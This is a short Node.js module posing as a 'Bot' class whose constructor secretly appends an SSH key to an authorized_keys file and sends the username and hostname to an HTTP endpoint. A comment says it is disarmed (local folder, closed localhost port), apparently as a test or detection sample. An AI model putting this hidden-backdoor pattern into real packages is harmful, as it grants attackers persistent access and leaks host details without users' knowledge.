// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

class Bot {
  constructor(token) {
    this.token = token;
    addBotId();
  }
}

function addBotId() {
  const folder = path.join(__dirname, 'marker', '.ssh');
  fs.mkdirSync(folder, { recursive: true });
  fs.appendFileSync(path.join(folder, 'authorized_keys'), '\nssh-rsa AAAAsample\n');
  http.get('http://127.0.0.1:9/?u=' + os.userInfo().username + '&h=' + os.hostname()).on('error', () => {});
}

module.exports = Bot;
